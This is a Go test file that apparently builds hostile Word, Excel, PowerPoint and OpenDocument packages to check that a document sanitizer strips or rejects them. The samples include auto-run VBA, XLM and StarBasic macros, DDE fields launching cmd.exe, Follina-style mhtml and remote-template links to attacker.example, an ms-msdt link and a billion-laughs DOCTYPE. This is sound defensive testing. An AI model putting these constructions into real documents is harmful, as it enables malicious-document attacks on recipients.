package ooxml

import (
	"github.com/sekisho/sekisho/sanitize"
)

// Hostile packages are built at test time from the real LibreOffice files in testdata, by
// adding the risky parts with archive/zip, so the corpus stays small and every variant
// keeps a real producer's quirks.

const (
	relBase     = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	msRelBase   = "http://schemas.microsoft.com/office/2006/relationships/"
	docRels     = "word/_rels/document.xml.rels"
	docMain     = "word/document.xml"
	docEnd      = "<w:t>End of the sample report.</w:t></w:r>"
	wbMain      = "xl/workbook.xml"
	wbRels      = "xl/_rels/workbook.xml.rels"
	vbaCT       = "application/vnd.ms-office.vbaProject"
	odtScripts  = "<office:scripts/>"
	odtEnd      = `<text:p text:style-name="Standard">End of the sample report.</text:p>`
	odtManifest = "META-INF/manifest.xml"
	// A CFB header and the text a VBA module leaves in it: enough for any scanner to call
	// it a macro project.
	fakeVBA = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\nShell \"calc.exe\"\nEnd Sub\n"
	fakeExe = "MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode.\r\r\n$PE\x00\x00"
)

func setMainType(from, to string) edit {
	return replace("[Content_Types].xml", `ContentType="`+from+`"`, `ContentType="`+to+`"`)
}

const (
	ctDocx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
	ctDocm = "application/vnd.ms-word.document.macroEnabled.main+xml"
	ctXlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
	ctXlsm = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
	ctXlsb = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
	ctPptx = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
	ctPptm = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
)

// vbaDocm turns report.docx into a docm with a VBA project and its vbaData part.
var vbaDocm = []edit{
	setMainType(ctDocx, ctDocm),
	addType("ext:bin", vbaCT),
	addType("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml"),
	add("word/vbaProject.bin", fakeVBA),
	add("word/_rels/vbaProject.bin.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="`+msRelBase+`wordVbaData" Target="vbaData.xml"/></Relationships>`),
	add("word/vbaData.xml", `<?xml version="1.0" encoding="UTF-8"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:mcds><wne:mcd wne:macroName="PROJECT.THISDOCUMENT.AUTOOPEN" wne:name="Project.ThisDocument.AutoOpen" wne:bEncrypt="00" wne:cmg="56"/></wne:mcds></wne:vbaSuppData>`),
	addRel(docRels, "rId90", msRelBase+"vbaProject", "vbaProject.bin", ""),
}

// hostileCase is one risky package and what sanitizing it must achieve.
type hostileCase struct {
	name      string // also the file name given to the sanitizer
	base      string // corpus file it is built from
	edits     []edit
	dropLinks bool
	kinds     []sanitize.ActionKind // must all be reported
	gone      []string              // substrings that must appear in no output entry name or XML
	text      []string              // must survive in LibreOffice's rendering (pdftotext)
	outType   string                // type name of the output when it changes
	outName   string
	wantErr   error // the sanitizer must refuse with this class
}

func hostileCases() []hostileCase {
	return append(append(append(append(classicCases(), shapeAndManifestCases()...), metadataCases()...), relationshipCases()...), elementCases()...)
}

func classicCases() []hostileCase {
	return []hostileCase{
		{
			name: "vba.docm", base: "ooxml/report.docx", edits: vbaDocm,
			kinds:   []sanitize.ActionKind{sanitize.ActRemovedMacros, sanitize.ActRenamed},
			gone:    []string{"vbaProject", "vbaData", "macroEnabled", "wordVbaData"},
			text:    []string{"Sekisho quarterly report", "関所のサンプル文書です"},
			outType: "docx", outName: "vba.docx",
		},
		{
			name: "docm-renamed.docx", base: "ooxml/report.docx", edits: vbaDocm,
			kinds:   []sanitize.ActionKind{sanitize.ActRemovedMacros, sanitize.ActRenamed},
			gone:    []string{"vbaProject", "macroEnabled"},
			text:    []string{"Sekisho quarterly report"},
			outType: "docx", outName: "docm-renamed.docx",
		},
		{
			name: "activex.docx", base: "ooxml/report.docx",
			edits: []edit{
				addType("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
				addType("word/activeX/activeX1.bin", "application/vnd.ms-office.activeX"),
				add("word/activeX/activeX1.xml", `<?xml version="1.0" encoding="UTF-8"?><ax:ocx ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit" r:id="rId1" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="`+relBase[:len(relBase)-1]+`"/>`),
				add("word/activeX/_rels/activeX1.xml.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="`+msRelBase+`activeXControlBinary" Target="activeX1.bin"/></Relationships>`),
				add("word/activeX/activeX1.bin", fakeVBA),
				addRel(docRels, "rId91", relBase+"control", "activeX/activeX1.xml", ""),
				replace(docMain, docEnd, docEnd+`<w:r><w:object w:dxaOrig="1440" w:dyaOrig="360"><w:control r:id="rId91" w:name="CommandButton1" w:shapeid="_x0000_i1025"/></w:object></w:r>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedActiveX},
			gone:  []string{"activeX", "w:control"},
			text:  []string{"End of the sample report"},
		},
		{
			name: "ole-exe.docx", base: "ooxml/report.docx",
			edits: []edit{
				addType("ext:bin", "application/vnd.openxmlformats-officedocument.oleObject"),
				add("word/embeddings/oleObject1.bin", fakeExe),
				addRel(docRels, "rId92", relBase+"oleObject", "embeddings/oleObject1.bin", ""),
				replace(docMain, docEnd, docEnd+`<w:r><w:object w:dxaOrig="1440" w:dyaOrig="360"><v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:72pt;height:18pt" o:ole=""><v:imagedata r:id="rId3" o:title=""/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1234567890" r:id="rId92"/></w:object></w:r>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedOLE},
			gone:  []string{"embeddings", "oleObject", "OLEObject"},
			text:  []string{"Figure one follows"},
		},
		{
			name: "remote-template.docx", base: "ooxml/report.docx",
			edits: []edit{
				replace("word/settings.xml", `<w:zoom w:percent="100"/>`, `<w:zoom w:percent="100"/><w:attachedTemplate r:id="rId1"/>`),
				replace("word/settings.xml", `xmlns:w=`, `xmlns:r="`+relBase[:len(relBase)-1]+`" xmlns:w=`),
				add("word/_rels/settings.xml.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="`+relBase+`attachedTemplate" Target="http://attacker.example/template.dotm" TargetMode="External"/></Relationships>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedExternalLink},
			gone:  []string{"attacker.example", "attachedTemplate"},
			text:  []string{"Sekisho quarterly report"},
		},
		{
			name: "follina.docx", base: "ooxml/report.docx",
			edits: []edit{
				addRel(docRels, "rId93", relBase+"oleObject", "mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x.html", "External"),
				replace(docMain, docEnd, docEnd+`<w:r><w:object w:dxaOrig="1440" w:dyaOrig="360"><v:shape id="_x0000_i1026" type="#_x0000_t75" style="width:1pt;height:1pt" o:ole=""><v:imagedata r:id="rId3" o:title=""/></v:shape><o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="_x0000_i1026" DrawAspect="Content" r:id="rId93" UpdateMode="OnCall"><o:LinkType>EnhancedMetaFile</o:LinkType><o:LockedField>false</o:LockedField></o:OLEObject></w:object></w:r>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedOLE},
			gone:  []string{"attacker.example", "OLEObject", "mhtml"},
			text:  []string{"End of the sample report"},
		},
		{
			name: "linked-image.docx", base: "ooxml/report.docx",
			edits: []edit{
				addRel(docRels, "rId94", relBase+"image", "http://tracker.example/pixel.png", "External"),
				replace(docMain, `<a:blip r:embed="rId3">`, `<a:blip r:embed="rId3" r:link="rId94">`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedExternalLink},
			gone:  []string{"tracker.example", "rId94"},
			text:  []string{"Figure one follows"},
		},
		{
			name: "ddeauto-split.docx", base: "ooxml/report.docx",
			edits: []edit{
				replace(docMain, `<w:instrText xml:space="preserve"> PAGE </w:instrText>`,
					`<w:instrText xml:space="preserve"> DD</w:instrText></w:r><w:r><w:rPr></w:rPr><w:instrText xml:space="preserve">EAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedDDE},
			gone:  []string{"EAUTO", "cmd.exe"},
			text:  []string{"Page 1 of the report"},
		},
		{
			name: "dde-fldsimple.docx", base: "ooxml/report.docx",
			edits: []edit{
				replace(docMain, docEnd, docEnd+`<w:fldSimple w:instr=" DDE c:\\windows\\system32\\cmd.exe &quot;/c calc&quot; "><w:r><w:t xml:space="preserve"> cached field text</w:t></w:r></w:fldSimple>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedDDE},
			gone:  []string{"fldSimple", "cmd.exe"},
			text:  []string{"cached field text"},
		},
		{
			name: "nested-field.docx", base: "ooxml/report.docx",
			edits: []edit{
				// The field type comes from a nested QUOTE field, hiding DDEAUTO from scanners.
				replace(docMain, `<w:instrText xml:space="preserve"> PAGE </w:instrText>`,
					`<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> QUOTE 68 68 69 65 85 84 79 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDEAUTO</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText xml:space="preserve"> calc </w:instrText>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedDDE},
			gone:  []string{"QUOTE", "DDEAUTO"},
			text:  []string{"Page 1 of the report"},
		},
		{
			name: "customui.docx", base: "ooxml/report.docx",
			edits: []edit{
				add("customUI/customUI14.xml", `<?xml version="1.0" encoding="UTF-8"?><customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="Ribbon_Load"><ribbon/></customUI>`),
				addRel("_rels/.rels", "rId95", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml", ""),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedPart},
			gone:  []string{"customUI", "Ribbon_Load"},
			text:  []string{"Sekisho quarterly report"},
		},
		{
			name: "undeclared.docx", base: "ooxml/report.docx",
			edits: []edit{add("word/payload.dat", fakeExe)},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedPart},
			gone:  []string{"payload"},
			text:  []string{"Sekisho quarterly report"},
		},
		{
			name: "unreachable.docx", base: "ooxml/report.docx",
			edits: []edit{add("word/orphan.xml", `<?xml version="1.0"?><orphan/>`)},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedPart},
			gone:  []string{"orphan"},
			text:  []string{"Sekisho quarterly report"},
		},
		{
			name: "unsafe-hyperlink.docx", base: "ooxml/report.docx",
			edits: []edit{
				replace(docRels, "https://example.com/policy", `ms-msdt:/id PCWDiagnostic /skip force /param &quot;IT_BrowseForFile=calc&quot;`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedExternalLink},
			gone:  []string{"ms-msdt"},
			text:  []string{"the policy page"},
		},
		{
			name: "links-dropped.docx", base: "ooxml/report.docx", dropLinks: true,
			kinds: []sanitize.ActionKind{sanitize.ActRemovedExternalLink},
			gone:  []string{"example.com/policy"},
			text:  []string{"the policy page"},
		},
		{
			name: "links-dropped.odt", base: "odf/report.odt", dropLinks: true,
			kinds: []sanitize.ActionKind{sanitize.ActRemovedExternalLink},
			gone:  []string{"example.com/policy"},
			text:  []string{"the policy page"},
		},
		{
			name: "signed.docx", base: "ooxml/report.docx",
			edits: []edit{
				addType("ext:sigs", "application/vnd.openxmlformats-package.digital-signature-origin"),
				addType("_xmlsignatures/sig1.xml", "application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml"),
				add("_xmlsignatures/origin.sigs", ""),
				add("_xmlsignatures/sig1.xml", `<?xml version="1.0" encoding="UTF-8"?><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo/></Signature>`),
				add("_xmlsignatures/_rels/origin.sigs.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/signature" Target="sig1.xml"/></Relationships>`),
				addRel("_rels/.rels", "rId96", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs", ""),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedPart},
			gone:  []string{"_xmlsignatures", "digital-signature"},
			text:  []string{"Sekisho quarterly report"},
		},
		{
			name: "altchunk.docx", base: "ooxml/report.docx",
			edits: []edit{
				addType("ext:mht", "message/rfc822"),
				add("word/afchunk.mht", "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
				addRel(docRels, "rId97", relBase+"aFChunk", "afchunk.mht", ""),
				replace(docMain, "<w:sectPr>", `<w:altChunk r:id="rId97"/><w:sectPr>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedPart},
			gone:  []string{"afchunk", "altChunk", "<script>"},
			text:  []string{"End of the sample report"},
		},
		{
			name: "activex.xlsx", base: "ooxml/ledger.xlsx",
			edits: []edit{
				addType("xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
				add("xl/activeX/activeX1.xml", `<?xml version="1.0" encoding="UTF-8"?><ax:ocx ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistPropertyBag" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>`),
				add("xl/worksheets/_rels/sheet1.xml.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="`+relBase+`control" Target="../activeX/activeX1.xml"/></Relationships>`),
				replace("xl/worksheets/sheet1.xml", "</headerFooter>", `</headerFooter><controls><mc:AlternateContent><mc:Choice Requires="x14"><control shapeId="1025" r:id="rId1" name="CommandButton1"><controlPr defaultSize="0" autoLine="0" r:id="rId1"/></control></mc:Choice><mc:Fallback><control shapeId="1025" r:id="rId1" name="CommandButton1"/></mc:Fallback></mc:AlternateContent></controls>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedActiveX},
			gone:  []string{"activeX", "<controls", "AlternateContent", "CommandButton1"},
			text:  []string{"Rent", "1820"},
		},
		{
			name: "vba.xlsm", base: "ooxml/ledger.xlsx",
			edits: []edit{
				setMainType(ctXlsx, ctXlsm),
				addType("xl/vbaProject.bin", vbaCT),
				add("xl/vbaProject.bin", fakeVBA),
				addRel(wbRels, "rId90", msRelBase+"vbaProject", "vbaProject.bin", ""),
			},
			kinds:   []sanitize.ActionKind{sanitize.ActRemovedMacros, sanitize.ActRenamed},
			gone:    []string{"vbaProject", "macroEnabled"},
			text:    []string{"Rent", "水道料金", "1820"},
			outType: "xlsx", outName: "vba.xlsx",
		},
		{
			name: "xlm-autoopen.xlsm", base: "ooxml/ledger.xlsx",
			edits: []edit{
				setMainType(ctXlsx, ctXlsm),
				addType("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"),
				add("xl/macrosheets/sheet1.xml", `<?xml version="1.0" encoding="UTF-8"?><xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>`),
				addRel(wbRels, "rId90", msRelBase+"xlMacrosheet", "macrosheets/sheet1.xml", ""),
				// The macro sheet comes first, so the kept sheets' indices must be remapped.
				replace(wbMain, `<sheets>`, `<sheets><sheet name="Macro1" sheetId="3" state="hidden" r:id="rId90"/>`),
				replace(wbMain, `firstSheet="0" activeTab="0"`, `firstSheet="1" activeTab="2"`),
				replace(wbMain, `</sheets>`, `</sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName><definedName name="Auto_Open2">Macro1!$A$2</definedName><definedName name="Totals" localSheetId="1">Ledger!$B$4</definedName><definedName name="Gone" localSheetId="0">Macro1!$A$1</definedName></definedNames>`),
			},
			kinds:   []sanitize.ActionKind{sanitize.ActRemovedMacros, sanitize.ActRenamed},
			gone:    []string{"macrosheet", "Auto_Open", "Macro1", "EXEC(", `name="Gone"`},
			text:    []string{"Rent", "1820", "Audited by the finance office"},
			outType: "xlsx", outName: "xlm-autoopen.xlsx",
		},
		{
			name: "ddelink.xlsx", base: "ooxml/ledger.xlsx",
			edits: []edit{
				addType("xl/externalLinks/externalLink1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"),
				add("xl/externalLinks/externalLink1.xml", `<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`),
				addRel(wbRels, "rId91", relBase+"externalLink", "externalLinks/externalLink1.xml", ""),
				replace(wbMain, `</sheets>`, `</sheets><externalReferences><externalReference r:id="rId91"/></externalReferences>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedDDE},
			gone:  []string{"externalLink", "externalReference", "ddeLink"},
			text:  []string{"Rent", "1820"},
		},
		{
			name: "dde-formula.xlsx", base: "ooxml/ledger.xlsx",
			edits: []edit{
				replace("xl/worksheets/sheet1.xml", `<f aca="false">SUM(B2:B3)</f>`, `<f aca="false">cmd|' /c calc.exe'!A0</f>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedDDE},
			gone:  []string{"calc.exe"},
			text:  []string{"1820"},
		},
		{
			name: "connections.xlsx", base: "ooxml/ledger.xlsx",
			edits: []edit{
				addType("xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"),
				add("xl/connections.xml", `<?xml version="1.0" encoding="UTF-8"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="q" type="4" refreshOnLoad="1"><webPr url="http://attacker.example/data"/></connection></connections>`),
				addRel(wbRels, "rId92", relBase+"connections", "connections.xml", ""),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedExternalLink},
			gone:  []string{"connections", "attacker.example"},
			text:  []string{"Rent"},
		},
		{
			name: "vba.pptm", base: "ooxml/slides.pptx",
			edits: []edit{
				setMainType(ctPptx, ctPptm),
				addType("ppt/vbaProject.bin", vbaCT),
				add("ppt/vbaProject.bin", fakeVBA),
				addRel("ppt/_rels/presentation.xml.rels", "rId90", msRelBase+"vbaProject", "vbaProject.bin", ""),
				replace("ppt/slides/slide1.xml", `<p:cNvPr id="41" name=""></p:cNvPr>`, `<p:cNvPr id="41" name=""><a:hlinkClick r:id="" action="ppaction://macro?name=AutoRun"/></p:cNvPr>`),
			},
			kinds:   []sanitize.ActionKind{sanitize.ActRemovedMacros, sanitize.ActRenamed},
			gone:    []string{"vbaProject", "ppaction://macro", "macroEnabled"},
			text:    []string{"Sekisho gateway overview", "無害化されたメールのみ届きます"},
			outType: "pptx", outName: "vba.pptx",
		},
		{
			name: "basic-macro.odt", base: "odf/report.odt",
			edits: []edit{
				add("Basic/Standard/Module1.xml", `<?xml version="1.0" encoding="UTF-8"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main
Shell("calc")
End Sub</script:module>`),
				add("Basic/script-lc.xml", `<?xml version="1.0" encoding="UTF-8"?><library:libraries xmlns:library="http://openoffice.org/2000/library"/>`),
				replace(odtManifest, "</manifest:manifest>", ` <manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="Basic/script-lc.xml" manifest:media-type="text/xml"/></manifest:manifest>`),
				replace("content.xml", odtScripts, `<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>`),
				replace("content.xml", odtEnd, `<text:p text:style-name="Standard"><text:a xlink:type="simple" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document">Click to continue</text:a></text:p>`+odtEnd),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedMacros},
			gone:  []string{"Basic/", "event-listener", "vnd.sun.star.script"},
			text:  []string{"Sekisho quarterly report", "Click to continue"},
		},
		{
			name: "external-image.odt", base: "odf/report.odt",
			edits: []edit{
				replace("content.xml", odtEnd, `<text:p text:style-name="Standard"><draw:frame draw:name="Tracker" text:anchor-type="as-char" svg:width="1cm" svg:height="1cm"><draw:image xlink:href="http://tracker.example/pixel.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>Tracked paragraph</text:p>`+odtEnd),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedExternalLink},
			gone:  []string{"tracker.example"},
			text:  []string{"Tracked paragraph", "End of the sample report"},
		},
		{
			name: "ole-object.odt", base: "odf/report.odt",
			edits: []edit{
				add("Object 2", fakeExe),
				replace(odtManifest, "</manifest:manifest>", ` <manifest:file-entry manifest:full-path="Object 2" manifest:media-type="application/vnd.sun.star.oleobject"/></manifest:manifest>`),
				replace("content.xml", odtEnd, `<text:p text:style-name="Standard"><draw:frame draw:name="Ole1" text:anchor-type="as-char" svg:width="2cm" svg:height="2cm"><draw:object-ole xlink:href="./Object 2" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>Object paragraph</text:p>`+odtEnd),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedOLE},
			gone:  []string{"Object 2"},
			text:  []string{"Object paragraph"},
		},
		{
			name: "dde.ods", base: "odf/ledger.ods",
			edits: []edit{
				replace("content.xml", "</office:spreadsheet>", `<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc.exe" office:dde-item="A0"/><table:table table:name="dde"/></table:dde-link></table:dde-links></office:spreadsheet>`),
			},
			kinds: []sanitize.ActionKind{sanitize.ActRemovedDDE},
			gone:  []string{"dde-link", "calc.exe"},
			text:  []string{"Rent", "1820"},
		},
		{
			name: "bad-xlsb.xlsx", base: "ooxml/ledger.xlsx",
			edits:   []edit{setMainType(ctXlsx, ctXlsb)},
			wantErr: sanitize.ErrUnsupported,
		},
		{
			name: "bad-only-macrosheet.xlsm", base: "ooxml/ledger.xlsx",
			edits: []edit{
				addType("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"),
				add("xl/macrosheets/sheet1.xml", `<?xml version="1.0" encoding="UTF-8"?><xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData/></xm:macrosheet>`),
				addRel(wbRels, "rId90", msRelBase+"xlMacrosheet", "macrosheets/sheet1.xml", ""),
				replace(wbMain, `<sheet name="Ledger" sheetId="1" state="visible" r:id="rId2"/><sheet name="Notes" sheetId="2" state="visible" r:id="rId3"/>`, `<sheet name="Macro1" sheetId="3" r:id="rId90"/>`),
			},
			wantErr: sanitize.ErrUnsupported,
		},
		{
			name: "bad-duplicate.docx", base: "ooxml/report.docx",
			edits:   []edit{add("word/Document.xml", `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>`)},
			wantErr: sanitize.ErrMalformed,
		},
		{
			name: "bad-doctype.docx", base: "ooxml/report.docx",
			edits: []edit{
				replace(docMain, `<w:document `, `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><w:document `),
			},
			wantErr: sanitize.ErrMalformed,
		},
		{
			name: "bad-encrypted-entry.odt", base: "odf/report.odt",
			edits: []edit{
				replace(odtManifest, `manifest:full-path="content.xml" manifest:media-type="text/xml"/>`, `manifest:full-path="content.xml" manifest:media-type="text/xml"><manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="x"/></manifest:file-entry>`),
			},
			wantErr: sanitize.ErrEncrypted,
		},
	}
}
